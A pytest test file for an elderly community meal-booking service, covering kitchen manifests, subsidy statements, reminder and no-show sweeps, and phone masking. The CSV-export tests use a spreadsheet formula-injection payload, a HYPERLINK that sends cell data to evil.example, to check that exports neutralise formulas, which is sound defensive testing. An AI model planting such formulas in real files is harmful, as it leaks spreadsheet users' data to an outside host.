"""Kitchen manifest, monthly statement (and street roll-up) on a known set; the scheduled sweeps by
moving the clock."""
import csv
import io
from datetime import date, datetime, timedelta
from decimal import Decimal

import pytest
import sqlalchemy as sa

from models.audit import AuditEntry
from models.base import db
from models.meals import MealBooking, MealSlot
from models.notifications import Notification
from models.people import ResidentProfile
from service import clock
from service.clock import SHANGHAI
from service.meals import reminders
from tests.api.test_meals import DAY, book, born, m  # noqa: F401 (fixture)
from tests.factories import auth, make_user
from tests.factories.meals import make_meal_card, make_meal_site, make_meal_slot


def elder_at(m, years, unit=None, name="张阿婆", **card):
    user = make_user(name=name, neighbourhood_id=m.world.nb.id, birth_date=born(years))
    if unit is not None:
        db.session.get(ResidentProfile, user.id).unit_id = unit.id
        db.session.commit()
    if card:
        make_meal_card(user, **card)
    return user


def notices(kind: str, user_id: int | None = None) -> list[Notification]:
    query = sa.select(Notification).where(Notification.kind == kind)
    if user_id is not None:
        query = query.where(Notification.user_id == user_id)
    return db.session.execute(query.order_by(Notification.id)).scalars().all()


@pytest.fixture
def known(client, m):
    """Five bookings on DAY's lunch: 2 dine-in set A, 1 pickup set B ×2, 2 deliveries (units 3 then 1)."""
    a = elder_at(m, 70, name="陈阿婆")
    b = elder_at(m, 80, name="周阿公", low_income=True, diet_note="少盐")
    c = elder_at(m, 65, name="孙阿婆")
    d = elder_at(m, 85, unit=m.world.units[2], name="朱阿婆", lives_alone=True)
    e = elder_at(m, 90, unit=m.world.units[0], name="沈阿公", diet_note="软烂")
    made = {
        "a": book(client, a, m).json,
        "b": book(client, b, m).json,
        "c": book(client, c, m, set_meal_id=m.discount.id, mode="pickup", quantity=2).json,
        "d": book(client, d, m, mode="delivery").json,
        "e": book(client, e, m, mode="delivery").json,
    }
    assert all(x["status"] == "confirmed" for x in made.values()), made
    return made, {"a": a, "b": b, "c": c, "d": d, "e": e}


def test_manifest_counts_diets_and_delivery_route(client, m, known):
    made, users = known
    response = client.get(f"/api/v1/meal-sites/{m.site.id}/manifest?date={DAY}", headers=auth(m.operator))
    assert response.status_code == 200, response.json
    slot = response.json["slots"][0]
    assert slot["final"] is False
    counts = {s["name"]: (s["dine_in"], s["pickup"], s["delivery"], s["total"]) for s in slot["set_meals"]}
    assert counts == {"两荤一素套餐": (2, 0, 2, 4), "特惠套餐": (0, 2, 0, 2)}
    assert slot["totals"] == {"dine_in": 2, "pickup": 2, "delivery": 2, "all": 6}
    assert slot["special_diets"] == [{"note": "少盐", "portions": 1}, {"note": "软烂", "portions": 1}]
    route = slot["delivery"]
    # Route order: the neighbourhood nearest the site first (香泉路居民区: building 1, unit 101), then
    # 中浩云居民区 (building 2; no position on record, so last).
    assert [stop["code"] for stop in route] == [made["e"]["code"], made["d"]["code"]]
    assert route[0]["diner"] == "沈**" and route[0]["neighbourhood"] == "香泉路居民区"
    assert route[0]["address"] and "1号楼" in route[0]["address"]
    csv_response = client.get(f"/api/v1/meal-sites/{m.site.id}/manifest?date={DAY}&format=csv",
                              headers=auth(m.operator))
    assert csv_response.status_code == 200 and csv_response.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(csv_response.get_data(as_text=True).lstrip("\ufeff"))))
    # Chinese headers and labels for the kitchen; English when the reader prefers it.
    assert rows[0][:4] == ["日期", "餐次", "类别", "套餐"]
    assert {r[1] for r in rows[1:]} == {"午餐"}
    total = next(r for r in rows if r[2] == "合计")
    assert total[4:8] == ["2", "2", "2", "6"]
    assert [r[9] for r in rows if r[2] == "送餐"] == [made["e"]["code"], made["d"]["code"]]
    english = client.get(f"/api/v1/meal-sites/{m.site.id}/manifest?date={DAY}&format=csv",
                         headers={**auth(m.operator), "Accept-Language": "en"}).get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(english.lstrip("\ufeff"))))
    assert rows[0][:4] == ["Date", "Meal", "Section", "Set meal"]
    assert next(r for r in rows if r[2] == "Total")[1] == "Lunch"
    # A cancelled booking leaves the manifest.
    client.post(f"/api/v1/meal-bookings/{made['a']['id']}/cancel", json={}, headers=auth(users["a"]))
    again = client.get(f"/api/v1/meal-sites/{m.site.id}/manifest?date={DAY}", headers=auth(m.operator)).json
    assert again["slots"][0]["totals"]["dine_in"] == 1


def test_manifest_and_statement_are_for_operators_and_staff(client, m, known):
    made, users = known
    for path in (f"/api/v1/meal-sites/{m.site.id}/manifest?date={DAY}",
                 f"/api/v1/meal-sites/{m.site.id}/statement?month=2026-11"):
        assert client.get(path, headers=auth(users["a"])).status_code == 403
        assert client.get(path, headers=auth(m.far_staff)).status_code == 403
        assert client.get(path, headers=auth(m.staff)).status_code == 200


def test_statement_counts_only_served_meals_per_tier(client, m, known):
    made, users = known
    clock.set_now(datetime(2026, 11, 23, 11, 30, tzinfo=SHANGHAI))
    for key in ("a", "b", "c", "e"):
        r = client.post(f"/api/v1/meal-sites/{m.site.id}/serve", json={"code": made[key]["code"]},
                        headers=auth(m.operator))
        assert r.status_code == 200
    # d never comes: not served, so no subsidy accrues for it.
    response = client.get(f"/api/v1/meal-sites/{m.site.id}/statement?month=2026-11", headers=auth(m.operator))
    assert response.status_code == 200, response.json
    body = response.json
    lines = {(line["tier"], tuple(line["statuses"])): line for line in body["lines"]}
    # a: 70 → age70, 15.00 − 3.00; b: 80 + 低保 → 15.00 − 7.00; c: 65 ×2 特惠 8.00 − 2.00 each;
    # e: 90, delivery → 15.00 − 5.00 + 2.00 fee.
    assert lines[("age70", ())]["meals"] == 1 and lines[("age70", ())]["subsidy_total"] == "3.00"
    assert lines[("age80", ("low_income",))]["subsidy_total"] == "7.00"
    assert lines[("age60", ())]["meals"] == 2 and lines[("age60", ())]["subsidy_total"] == "4.00"
    assert lines[("age60", ())]["payable_total"] == "12.00"
    assert lines[("age90", ())]["payable_total"] == "12.00" and lines[("age90", ())]["delivery_fees"] == "2.00"
    assert all(line["district"] == "普陀区" for line in body["lines"])
    totals = body["totals"]
    assert totals["meals"] == 5 and totals["diners"] == 4 and totals["service_days"] == 1
    assert totals["list_total"] == "61.00"       # 15 + 15 + 16 + 15
    assert totals["subsidy_total"] == "19.00"    # 3 + 7 + 4 + 5
    assert totals["payable_total"] == "44.00"    # 12 + 8 + 12 + 12 (incl. the 2.00 fee)
    assert totals["delivery_fees"] == "2.00"     # e's delivery
    # The totals add up like every line: list − subsidy + delivery fees = payable.
    for row in [*body["lines"], totals]:
        assert Decimal(row["list_total"]) - Decimal(row["subsidy_total"]) + Decimal(row["delivery_fees"]) == \
            Decimal(row["payable_total"])
    # Operator side (65–74 ¥0.80, 75+ ¥1.50): a 0.80, c 2 × 0.80, b 1.50, e 1.50.
    assert {o["tier"]: (o["meals"], o["amount"]) for o in body["operator_subsidy"]} == \
        {"op65": (3, "2.40"), "op75": (2, "3.00")}
    assert totals["operator_subsidy_total"] == "5.40"
    other_month = client.get(f"/api/v1/meal-sites/{m.site.id}/statement?month=2026-12", headers=auth(m.operator))
    assert other_month.json["totals"]["meals"] == 0 and other_month.json["totals"]["subsidy_total"] == "0.00"
    csv_text = client.get(f"/api/v1/meal-sites/{m.site.id}/statement?month=2026-11&format=csv",
                          headers=auth(m.operator)).get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(csv_text.lstrip("\ufeff"))))
    assert rows[0][:5] == ["助餐点", "月份", "结算区", "补贴档次", "特殊身份"]
    assert rows[-1][3] == "合计" and rows[-1][5:10] == ["5", "61.00", "19.00", "44.00", "2.00"]
    assert ["70-79岁", ""] == next(row[3:5] for row in rows if row[3] == "70-79岁")
    assert next(row for row in rows if row[3] == "80-89岁")[4] == "低保/困难"
    assert {row[3] for row in rows if row[3].startswith("运营补贴")} == {"运营补贴：65-74岁（运营补贴）",
                                                                      "运营补贴：75岁及以上（运营补贴）"}
    # The street roll-up, for the street's admin only.
    roll = client.get(f"/api/v1/meal-statements?street_id={m.world.street.id}&month=2026-11", headers=auth(m.admin))
    assert roll.status_code == 200
    assert roll.json["totals"] == {"meals": 5, "subsidy_total": "19.00", "operator_subsidy_total": "5.40",
                                   "payable_total": "44.00", "delivery_fees": "2.00"}
    assert [(s["site_id"], s["payable_total"], s["delivery_fees"]) for s in roll.json["sites"]] == \
        [(m.site.id, "44.00", "2.00")]
    assert client.get(f"/api/v1/meal-statements?street_id={m.world.other_street.id}&month=2026-11",
                      headers=auth(m.admin)).status_code == 403
    assert client.get(f"/api/v1/meal-statements?street_id={m.world.street.id}&month=2026-11",
                      headers=auth(m.operator)).status_code == 403
    roll_csv = csv_rows(client.get(f"/api/v1/meal-statements?street_id={m.world.street.id}&month=2026-11"
                                   "&format=csv", headers=auth(m.admin)))
    header = roll_csv[0]
    site_row, total_row = (dict(zip(header, row)) for row in roll_csv[1:])
    assert total_row["助餐点"] == "合计"
    assert (site_row["个人支付合计（元）"], site_row["送餐费合计（元）"]) == ("44.00", "2.00")
    assert (total_row["个人支付合计（元）"], total_row["送餐费合计（元）"]) == ("44.00", "2.00")


# --- sweeps ---------------------------------------------------------------------------------------------------

def test_eve_and_morning_reminders_once_each(client, m, known):
    made, users = known
    clock.set_now(datetime(2026, 11, 22, 17, 59, tzinfo=SHANGHAI))
    assert reminders.eve_reminders() == 0
    clock.set_now(datetime(2026, 11, 22, 18, 0, tzinfo=SHANGHAI))
    assert reminders.eve_reminders() == 5
    assert reminders.eve_reminders() == 0
    note = notices("meals.reminder", users["a"].id)[0]
    assert made["a"]["code"] in note.body and note.title == "明天的助餐提醒"
    clock.set_now(datetime(2026, 11, 23, 7, 29, tzinfo=SHANGHAI))
    assert reminders.morning_reminders() == 0
    clock.set_now(datetime(2026, 11, 23, 7, 30, tzinfo=SHANGHAI))
    assert reminders.morning_reminders() == 5
    assert reminders.morning_reminders() == 0


def test_manifest_goes_to_the_operator_at_the_cutoff_once(client, m, known):
    clock.set_now(datetime(2026, 11, 23, 8, 59, tzinfo=SHANGHAI))
    assert reminders.cutoff_manifests() == 0
    clock.set_now(datetime(2026, 11, 23, 9, 0, tzinfo=SHANGHAI))
    assert reminders.cutoff_manifests() == 1
    assert reminders.cutoff_manifests() == 0
    note = notices("meals.manifest", m.operator.id)[0]
    assert "堂食2份" in note.body and "送餐2份" in note.body
    assert db.session.get(MealSlot, m.slot.id).manifest_sent_at is not None


def test_no_shows_marked_after_the_meal_with_a_welfare_check_for_those_living_alone(client, m, known):
    made, users = known
    staff2 = make_user(name="中浩云社工", roles=[("staff", "neighbourhood", m.world.nb2.id)])  # d lives in nb2
    clock.set_now(datetime(2026, 11, 23, 11, 30, tzinfo=SHANGHAI))
    client.post(f"/api/v1/meal-sites/{m.site.id}/serve", json={"code": made["a"]["code"]}, headers=auth(m.operator))
    clock.set_now(datetime(2026, 11, 23, 13, 29, tzinfo=SHANGHAI))   # lunch ends 13:00, marked 30 min later
    assert reminders.mark_no_shows()["no_show"] == 0
    clock.set_now(datetime(2026, 11, 23, 13, 30, tzinfo=SHANGHAI))
    result = reminders.mark_no_shows()
    assert result["no_show"] == 4 and result["welfare_checks"] == 1
    assert reminders.mark_no_shows() == {"no_show": 0, "welfare_checks": 0, "followups": 0, "waitlist_expired": 0}
    assert db.session.get(MealBooking, made["a"]["id"]).status == "served"
    assert db.session.get(MealBooking, made["d"]["id"]).status == "no_show"
    assert notices("meals.welfare_check", m.staff.id) == []
    check = notices("meals.welfare_check", staff2.id)
    assert len(check) == 1 and "朱**" in check[0].body
    # Serving after being marked no-show is refused.
    r = client.post(f"/api/v1/meal-sites/{m.site.id}/serve", json={"code": made["d"]["code"]}, headers=auth(m.operator))
    assert r.status_code == 409 and r.json["error"] == "meals.not_servable"


def test_third_no_show_in_30_days_asks_for_a_follow_up(client, m):
    diner = elder_at(m, 70, name="顾阿婆")
    days = [DAY, DAY + timedelta(days=1), DAY + timedelta(days=29)]
    for day in days:
        slot = db.session.execute(sa.select(MealSlot).where(MealSlot.site_id == m.site.id, MealSlot.day == day,
                                                            MealSlot.meal == "lunch")).scalar() \
            or make_meal_slot(m.site, day)
        clock.set_now(datetime.combine(day - timedelta(days=1), datetime.min.time(), tzinfo=SHANGHAI)
                      + timedelta(hours=10))
        assert book(client, diner, m, slot_id=slot.id, set_meal_id=slot.set_meals[0].id).status_code == 201
        clock.set_now(datetime.combine(day, datetime.min.time(), tzinfo=SHANGHAI) + timedelta(hours=14))
        reminders.mark_no_shows()
    follow = notices("meals.no_show_followup", m.staff.id)
    assert len(follow) == 1 and "3次" in follow[0].body


def test_stopped_booking_notice_weekly(client, m):
    diner = elder_at(m, 78, name="蒋阿公")
    start = date(2026, 11, 2)
    for i in range(10):                         # ten weekday lunches in the two weeks before last week
        day = start + timedelta(days=i + (i // 5) * 2)
        slot = make_meal_slot(m.site, day)
        clock.set_now(datetime.combine(day, datetime.min.time(), tzinfo=SHANGHAI) + timedelta(hours=8))
        assert book(client, diner, m, slot_id=slot.id, set_meal_id=slot.set_meals[0].id).status_code == 201
    clock.set_now(datetime(2026, 11, 30, 9, 0, tzinfo=SHANGHAI))   # a Monday; nothing booked since 11-23
    assert reminders.stopped_booking() == 1
    assert reminders.stopped_booking() == 0
    assert "最近一周没有订餐" in notices("meals.stopped_booking", m.staff.id)[0].body
    clock.set_now(datetime(2026, 11, 16, 9, 0, tzinfo=SHANGHAI))   # while still booking: nothing
    assert reminders.stopped_booking() == 0


def test_waitlist_sweep_fills_seats_freed_by_the_reserve_release(client, m):
    ten = make_meal_slot(m.site, DAY, "dinner", dine_in=5)   # 20% → 1 seat held
    body = {"slot_id": ten.id, "set_meal_id": ten.set_meals[0].id}
    for i in range(4):
        assert book(client, elder_at(m, 65, name=f"普{i}"), m, **body).json["status"] == "confirmed"
    waiting_user = elder_at(m, 65, name="候补")
    waiting = book(client, waiting_user, m, **body, join_waitlist=True).json
    assert waiting["status"] == "waitlisted"
    assert reminders.promote_waitlists() == 0                         # the last seat is still held
    clock.set_now(datetime(2026, 11, 22, 18, 0, tzinfo=SHANGHAI))
    assert reminders.promote_waitlists() == 1
    assert db.session.get(MealBooking, waiting["id"]).status == "confirmed"
    assert notices("meals.promoted", waiting_user.id)
    slot = db.session.get(MealSlot, ten.id)
    db.session.refresh(slot)
    assert slot.booked_dine_in == 5


def test_unpromoted_waitlist_entries_end_when_the_meal_begins(client, m):
    tiny = make_meal_slot(m.site, DAY, "dinner", dine_in=1)
    body = {"slot_id": tiny.id, "set_meal_id": tiny.set_meals[0].id}
    assert book(client, elder_at(m, 70, name="先到"), m, **body).json["status"] == "confirmed"
    waiting = book(client, elder_at(m, 70, name="候补"), m, **body, join_waitlist=True).json
    clock.set_now(datetime(2026, 11, 23, 16, 59, tzinfo=SHANGHAI))
    assert reminders.mark_no_shows()["waitlist_expired"] == 0
    clock.set_now(datetime(2026, 11, 23, 17, 0, tzinfo=SHANGHAI))      # dinner starts
    assert reminders.mark_no_shows()["waitlist_expired"] == 1
    expired = db.session.get(MealBooking, waiting["id"])
    assert (expired.status, expired.cancel_reason) == ("cancelled", "候补未成功")


# --- CSV exports: a cell a spreadsheet would run as a formula comes out as text -------------------------------------

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击领取补贴")'


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200 and response.mimetype == "text/csv"
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def test_manifest_csv_neutralises_formula_cells(client, m):
    diner = elder_at(m, 85, unit=m.world.units[0], name="@沈阿公")
    made = book(client, diner, m, mode="delivery", diet_note=EVIL)
    assert made.status_code == 201, made.json
    m.set_meal.name = "+两荤一素套餐"
    db.session.commit()
    rows = csv_rows(client.get(f"/api/v1/meal-sites/{m.site.id}/manifest?date={DAY}&format=csv",
                               headers=auth(m.operator)))
    cells = [value for row in rows for value in row]
    assert "'" + EVIL in cells                      # the special diet row and the delivery row
    assert EVIL not in cells
    assert not any(value.startswith(("=", "+", "-", "@")) for value in cells)
    assert "'+两荤一素套餐" in cells and "'@***" in cells
    delivery = next(row for row in rows if row[2] == "送餐")
    assert delivery[-1] == "'" + EVIL


def test_statement_csvs_neutralise_formula_cells(client, m, known):
    made, users = known
    clock.set_now(datetime(2026, 11, 23, 11, 30, tzinfo=SHANGHAI))
    for key in ("a", "e"):
        assert client.post(f"/api/v1/meal-sites/{m.site.id}/serve", json={"code": made[key]["code"]},
                           headers=auth(m.operator)).status_code == 200
    m.site.name = EVIL
    m.world.street.name = "-万里街道"
    db.session.commit()
    site_rows = csv_rows(client.get(f"/api/v1/meal-sites/{m.site.id}/statement?month=2026-11&format=csv",
                                    headers=auth(m.operator)))
    assert [row[0] for row in site_rows[1:]] == ["'" + EVIL] * (len(site_rows) - 1)
    street_rows = csv_rows(client.get(f"/api/v1/meal-statements?street_id={m.world.street.id}&month=2026-11"
                                      "&format=csv", headers=auth(m.admin)))
    assert {row[0] for row in street_rows[1:]} == {"'-万里街道"}
    assert street_rows[1][2] == "'" + EVIL
    for rows in (site_rows, street_rows):
        assert not any(value.startswith(("=", "+", "-", "@")) for row in rows for value in row)


# --- the statement month ----------------------------------------------------------------------------------------------

@pytest.mark.parametrize("month", ["9999-12", "1999-12", "2100-01", "0001-01"])
def test_a_statement_month_out_of_range_is_422_naming_month(client, m, month):
    paths = (f"/api/v1/meal-sites/{m.site.id}/statement?month={month}",
             f"/api/v1/meal-statements?street_id={m.world.street.id}&month={month}",
             f"/api/v1/meal-sites/{m.site.id}/statement?month={month}&format=csv")
    for path in paths:
        response = client.get(path, headers=auth(m.admin))
        assert response.status_code == 422, (path, response.status_code)
        assert "month" in response.json["errors"] and "月份" in response.json["message"]
    english = client.get(paths[0], headers=auth(m.admin, **{"Accept-Language": "en"}))
    assert english.status_code == 422 and "month" in english.json["message"]


@pytest.mark.parametrize("month", ["2000-01", "2099-12"])
def test_the_first_and_last_statement_months(client, m, month):
    for path in (f"/api/v1/meal-sites/{m.site.id}/statement?month={month}",
                 f"/api/v1/meal-statements?street_id={m.world.street.id}&month={month}"):
        response = client.get(path, headers=auth(m.admin))
        assert response.status_code == 200 and response.json["totals"]["meals"] == 0


# --- the delivery list's phone, the site's facility ---------------------------------------------------------------

def test_the_delivery_list_gives_the_sites_operator_the_diners_phone(client, m):
    first = make_user(name="沈阿公", phone="13812345678", neighbourhood_id=m.world.nb.id, birth_date=born(90))
    db.session.get(ResidentProfile, first.id).unit_id = m.world.units[0].id
    db.session.commit()
    second = elder_at(m, 85, unit=m.world.units[2], name="朱阿婆", lives_alone=True)   # no phone on record
    for diner in (first, second):
        assert book(client, diner, m, mode="delivery").status_code == 201
    path = f"/api/v1/meal-sites/{m.site.id}/manifest?date={DAY}"
    route = client.get(path, headers=auth(m.operator)).json["slots"][0]["delivery"]
    assert [(stop["diner"], stop["phone"]) for stop in route] == [("沈**", "13812345678"), ("朱**", None)]
    viewed = db.session.execute(sa.select(AuditEntry).where(AuditEntry.action == "meal_manifest.phones_viewed")
                                ).scalars().all()
    assert [(e.actor_user_id, e.object_type, e.object_id) for e in viewed] == \
        [(m.operator.id, "meal_site", str(m.site.id))]
    rows = csv_rows(client.get(path + "&format=csv", headers=auth(m.operator)))
    stops = [dict(zip(rows[0], row)) for row in rows if row[2] == "送餐"]
    assert [(stop["用餐人"], stop["电话"]) for stop in stops] == [("沈**", "13812345678"), ("朱**", "")]
    # Staff who may see the manifest are not the site's operator: the phone stays masked.
    staff_route = client.get(path, headers=auth(m.staff)).json["slots"][0]["delivery"]
    assert [stop["phone"] for stop in staff_route] == ["138****5678", None]
    staff_rows = csv_rows(client.get(path + "&format=csv", headers=auth(m.staff)))
    assert "13812345678" not in {value for row in staff_rows for value in row}
    assert len(db.session.execute(sa.select(AuditEntry).where(
        AuditEntry.action == "meal_manifest.phones_viewed")).scalars().all()) == 2     # the operator's two reads


def test_every_answer_about_a_site_names_the_same_facility(client, m, known):
    from tests.factories.life_circle import make_facility

    facility = make_facility(category="meal", lat=m.site.lat, lng=m.site.lng, name=m.site.name,
                             street_id=m.world.street.id)
    facility.meal_site_id = m.site.id
    db.session.commit()
    user = elder_at(m, 70, name="钱阿婆")
    listed = client.get("/api/v1/meal-sites", headers=auth(user)).json["items"]
    nearby = client.get("/api/v1/meal-sites?lat=31.2703&lng=121.4086", headers=auth(user)).json["items"]
    sites = [next(s for s in listed if s["id"] == m.site.id), nearby[0],
             client.get(f"/api/v1/meal-sites/{m.site.id}", headers=auth(user)).json,
             client.get(f"/api/v1/meal-sites/{m.site.id}/slots?date={DAY}", headers=auth(user)).json["site"],
             client.get(f"/api/v1/meal-sites/{m.site.id}/manifest?date={DAY}", headers=auth(m.operator)).json["site"],
             client.get(f"/api/v1/meal-sites/{m.site.id}/statement?month=2026-11",
                        headers=auth(m.operator)).json["site"]]
    assert [site["id"] for site in sites] == [m.site.id] * 6
    assert [site["facility_id"] for site in sites] == [facility.id] * 6
    # A site that is no facility says so everywhere.
    other = make_meal_site(m.world, name="中浩云社区食堂")
    make_meal_slot(other, DAY)
    assert client.get(f"/api/v1/meal-sites/{other.id}/slots?date={DAY}", headers=auth(user)).json["site"][
        "facility_id"] is None
